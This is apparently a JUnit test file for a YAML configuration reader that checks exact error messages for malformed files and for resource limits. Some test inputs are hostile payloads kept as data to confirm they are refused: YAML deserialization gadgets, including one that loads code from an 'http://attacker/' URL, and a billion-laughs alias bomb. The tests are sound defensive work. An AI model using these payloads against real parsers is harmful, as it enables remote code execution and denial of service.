package dev.aiq.agent.yaml;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Every way one file can be wrong gives one short, exact sentence at the right position, and nothing else. */
class BadConfigsTest {

    @TempDir
    Path dir;

    static Stream<Arguments> malformedYaml() {
        return Stream.of(
                bad("unclosed double quote", "llms:\n  nim:\n    model_name: \"meta/llama\n    temperature: 0.7\n",
                        "config.yml:3:17: unclosed quote: this string is never closed"),
                bad("unclosed single quote", "workflow:\n  prompt: 'Answer briefly\n",
                        "config.yml:2:11: unclosed quote: this string is never closed"),
                bad("key indented less than its siblings", "llms:\n  nim:\n    _type: nim\n   temperature: 0.7\n",
                        "config.yml:4:4: unexpected key; check the indentation of the map that starts at line 2, column 3"),
                bad("key indented more than its siblings", "llms:\n  _type: nim\n    temperature: 0.7\n",
                        "config.yml:3:16: ':' is not allowed here; check the indentation, or quote a value that"
                                + " contains ': '"),
                bad("unclosed bracket", "workflow:\n  tool_names: [wiki, clock\n  llm_name: nim\n",
                        "config.yml:3:11: expected ',' or ']' in the list opened at line 2, column 15"),
                bad("unclosed brace", "llms: {nim: {_type: nim}\n",
                        "config.yml:2:1: expected ',' or '}' in the map opened at line 1, column 7"),
                bad("bracket closed by a brace", "tool_names: [wiki, clock}\n",
                        "config.yml:1:25: expected ',' or ']' in the list opened at line 1, column 13"),
                bad("a missing comma in a flow map", "llms: {nim: 1 temperature: 2}\n",
                        "config.yml:1:26: expected ',' or '}' in the map opened at line 1, column 7"),
                bad("a doubled comma in a flow map", "llms: {nim: 1,, x: 2}\n",
                        "config.yml:1:15: expected a key or value, found ','"),
                bad("a flow map entry without its key", "llms: {nim: 1, : 2}\n",
                        "config.yml:1:16: expected a key or value, found ':'"),
                bad("a key without a colon", "llms: {}\nworkflow\nfunctions: {}\n",
                        "config.yml:2:1: this key has no ':' after it"),
                bad("a value that starts with a backtick", "prompt: `date`\n",
                        "config.yml:1:9: a value cannot start with '`'; put it in quotes"),
                bad("unknown escape in a double-quoted string", "path: \"C:\\data\"\n",
                        "config.yml:1:11: unknown escape '\\d' in a double-quoted string"),
                bad("tab used for indentation", "llms:\n\tnim: 1\n", "config.yml:2:1: tabs are not allowed for indentation"),
                bad("two documents", "llms: {}\n---\nworkflow: {}\n",
                        "config.yml:2:1: a config is one YAML document, but a second one starts here"),
                bad("alias of an anchor that does not exist", "llm: *nim\n", "config.yml:1:6: unknown alias '*nim'"),
                bad("duplicate top-level key", "llms: {}\nworkflow: {}\nllms: {}\n",
                        "config.yml:3:1: duplicate key 'llms'"),
                bad("duplicate nested key", "llms:\n  nim:\n    temperature: 0.7\n    temperature: 0.9\n",
                        "config.yml:4:5: duplicate key 'temperature'"),
                bad("duplicate key in a flow map", "nim: {temperature: 0.7, temperature: 0.9}\n",
                        "config.yml:1:25: duplicate key 'temperature'"),
                bad("global tag !!java.io.File", "llms: !!java.io.File /etc/passwd\n",
                        "config.yml:1:7: tag '!!java.io.File' is not allowed; only standard YAML tags and !include are"),
                bad("global tag !!python/object", "llms: !!python/object:os.system {}\n",
                        "config.yml:1:7: tag '!!python/object:os.system' is not allowed; only standard YAML tags and"
                                + " !include are"),
                bad("the ScriptEngineManager gadget",
                        "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                                + " [\"http://attacker/\"]]]]\n",
                        "config.yml:1:4: tag '!!javax.script.ScriptEngineManager' is not allowed; only standard YAML"
                                + " tags and !include are"),
                bad("unknown local tag", "llms: !foo bar\n", "config.yml:1:7: unknown tag '!foo'; the only custom tag is !include"),
                bad("standard but unsupported tag !!binary", "key: !!binary aGVsbG8=\n",
                        "config.yml:1:6: tag '!!binary' is not allowed; only standard YAML tags and !include are"),
                bad("explicit !!int that is not a number", "port: !!int eighty\n",
                        "config.yml:1:7: 'eighty' is not a valid integer"),
                bad("a list as a key", "? [a, b]\n: 1\n", "config.yml:1:3: a key must be a plain value, not a list"),
                bad("a list that contains itself", "loop: &loop [*loop]\n",
                        "config.yml:1:7: this list contains itself through an alias"),
                bad("a merge key with a scalar", "defaults: &d 1\nnim:\n  <<: *d\n",
                        "config.yml:3:3: '<<' merges maps only, not a number (1)"),
                bad("top level is a list", "- llms\n- workflow\n",
                        "config.yml:1:1: the top level of a config must be a map, not a list"),
                bad("top level is a scalar", "just some text\n",
                        "config.yml:1:1: the top level of a config must be a map, not a string ('just some text')"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("malformedYaml")
    void malformedYamlIsOneErrorWithItsPosition(String what, String yaml, String expected) {
        ConfigDir config = new ConfigDir(dir);
        config.writeBytes("config.yml", yaml.getBytes(StandardCharsets.UTF_8));

        assertThat(config.error("config.yml")).isEqualTo(expected);
    }

    @Test
    void everyProblemThatIsNotSyntaxIsReportedNotJustTheFirst() {
        ConfigDir config = new ConfigDir(dir);
        config.write("config.yml",
                "llms:",
                "  nim: {temperature: 0.7, temperature: 0.9}",
                "functions: !!java.io.File /etc/passwd",
                "workflow: !custom react",
                "llms: {}");

        assertThat(config.errors("config.yml")).containsExactly(
                "config.yml:2:27: duplicate key 'temperature'",
                "config.yml:3:12: tag '!!java.io.File' is not allowed; only standard YAML tags and !include are",
                "config.yml:4:11: unknown tag '!custom'; the only custom tag is !include",
                "config.yml:5:1: duplicate key 'llms'");
    }

    @Test
    void billionLaughsIsRefusedAtTheAliasThatCrossesTheLimit() {
        ConfigDir config = new ConfigDir(dir);
        StringBuilder yaml = new StringBuilder("lol0: &lol0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int level = 1; level <= 9; level++) {
            String previous = "*lol" + (level - 1);
            yaml.append("lol").append(level).append(": &lol").append(level).append(" [")
                    .append(String.join(", ", List.of(previous, previous, previous, previous, previous, previous,
                            previous, previous, previous)))
                    .append("]\n");
        }
        config.writeBytes("config.yml", yaml.toString().getBytes(StandardCharsets.UTF_8));

        assertThat(config.error("config.yml")).isEqualTo(
                "config.yml:7:49: more than 50 aliases of lists or maps; this looks like a 'billion laughs' document");
    }

    @Test
    void aliasesWithinTheLimitThatStillExpandTooFarAreRefused() {
        ConfigDir config = new ConfigDir(dir, new YamlReader(Map.of(), new Limits(3L << 20, 50, 50, 16, 1_000)));
        StringBuilder yaml = new StringBuilder("a0: &a0 {x: 1, y: 2, z: 3}\n");
        for (int level = 1; level <= 8; level++) {
            String previous = "*a" + (level - 1);
            yaml.append('a').append(level).append(": &a").append(level)
                    .append(" {p: ").append(previous).append(", q: ").append(previous).append(", r: ")
                    .append(previous).append("}\n");
        }
        config.writeBytes("config.yml", yaml.toString().getBytes(StandardCharsets.UTF_8));

        assertThat(config.error("config.yml"))
                .isEqualTo("config.yml: the config expands to more than 1000 values through aliases or repeated includes");
    }

    @Test
    void nestingOneHundredDeepIsRefusedWhereItPassesFifty() {
        ConfigDir config = new ConfigDir(dir);
        StringBuilder yaml = new StringBuilder();
        for (int depth = 0; depth < 100; depth++) {
            yaml.append("  ".repeat(depth)).append("level").append(depth).append(":\n");
        }
        config.writeBytes("config.yml", yaml.toString().getBytes(StandardCharsets.UTF_8));

        assertThat(config.error("config.yml")).isEqualTo("config.yml:51:101: lists and maps are nested more than 50 levels deep");
    }

    @Test
    void nestingOneHundredDeepInFlowStyleIsRefusedToo() {
        ConfigDir config = new ConfigDir(dir);
        config.write("config.yml", "deep: " + "[".repeat(100) + "]".repeat(100));

        assertThat(config.error("config.yml")).isEqualTo("config.yml:1:56: lists and maps are nested more than 50 levels deep");
    }

    @Test
    void aFiveMegabyteDocumentIsRefusedBeforeItIsParsed() {
        ConfigDir config = new ConfigDir(dir);
        byte[] yaml = new byte[5 * 1024 * 1024];
        Arrays.fill(yaml, (byte) '#');
        config.writeBytes("config.yml", yaml);

        assertThat(config.error("config.yml")).isEqualTo("config.yml: file is larger than the 3 MB limit");
    }

    @Test
    void invalidUtf8IsReportedAtTheBadByte() {
        ConfigDir config = new ConfigDir(dir);
        byte[] head = "llms:\n  nim: caf".getBytes(StandardCharsets.ISO_8859_1);
        byte[] yaml = Arrays.copyOf(head, head.length + 2);
        yaml[head.length] = (byte) 0xE9; // "café" saved as Latin-1
        yaml[head.length + 1] = '\n';
        config.writeBytes("config.yml", yaml);

        assertThat(config.error("config.yml"))
                .isEqualTo("config.yml:2:11: not valid UTF-8 (byte 0xe9); save the file as UTF-8");
    }

    @Test
    void aFileThatEndsInsideAUtf8CharacterIsInvalid() {
        ConfigDir config = new ConfigDir(dir);
        config.writeBytes("config.yml", new byte[] {'a', ':', ' ', (byte) 0xE2, (byte) 0x82});

        assertThat(config.error("config.yml")).isEqualTo("config.yml:1:4: not valid UTF-8 (byte 0xe2); save the file as UTF-8");
    }

    @Test
    void binaryBytesAreReportedAsAControlCharacter() {
        ConfigDir config = new ConfigDir(dir);
        config.writeBytes("config.yml", new byte[] {'a', ':', ' ', 'b', '\n', 'c', 0, 1, 2, '\n'});

        assertThat(config.error("config.yml"))
                .isEqualTo("config.yml:2:2: control character U+0000 is not allowed in YAML; is this a binary file?");
    }

    @Test
    void anEmptyFileIsAnEmptyConfigNotAnError() throws Exception {
        ConfigDir config = new ConfigDir(dir);
        config.writeBytes("config.yml", new byte[0]);
        config.write("comments.yml", "# nothing here yet", "");

        assertThat(config.read("config.yml").tree()).isEmpty();
        assertThat(config.read("comments.yml").tree()).isEmpty();
    }

    @Test
    void aByteOrderMarkAndWindowsLineEndingsAreFine() throws Exception {
        ConfigDir config = new ConfigDir(dir);
        byte[] text = "llms:\r\n  nim:\r\n    temperature: 0.7\r\nworkflow: {_type: react_agent}\r\n"
                .getBytes(StandardCharsets.UTF_8);
        byte[] withBom = new byte[text.length + 3];
        withBom[0] = (byte) 0xEF;
        withBom[1] = (byte) 0xBB;
        withBom[2] = (byte) 0xBF;
        System.arraycopy(text, 0, withBom, 3, text.length);
        config.writeBytes("config.yml", withBom);

        ReadResult result = config.read("config.yml");

        assertThat(result.tree()).containsOnlyKeys("llms", "workflow");
        assertThat(result.positions().get("workflow")).isEqualTo(new Position(config.path("config.yml"), 4, 1));
        assertThat(result.sources().get(config.path("config.yml"))).startsWith("llms:");
    }

    @Test
    void aMissingRootFileIsNamed() {
        assertThat(new ConfigDir(dir).error("config.yml")).isEqualTo("config.yml: file does not exist");
    }

    @Test
    void aDirectoryInPlaceOfTheRootFileIsNamed() throws Exception {
        Files.createDirectory(dir.resolve("config.yml"));

        assertThat(new ConfigDir(dir).error("config.yml")).isEqualTo("config.yml: is a directory, not a file");
    }

    @Test
    void aDanglingSymlinkInPlaceOfTheRootFileDoesNotExist() throws Exception {
        Files.createSymbolicLink(dir.resolve("config.yml"), dir.resolve("gone.yml"));

        assertThat(new ConfigDir(dir).error("config.yml")).isEqualTo("config.yml: file does not exist");
    }

    private static Arguments bad(String what, String yaml, String expected) {
        return Arguments.of(what, yaml, expected);
    }
}
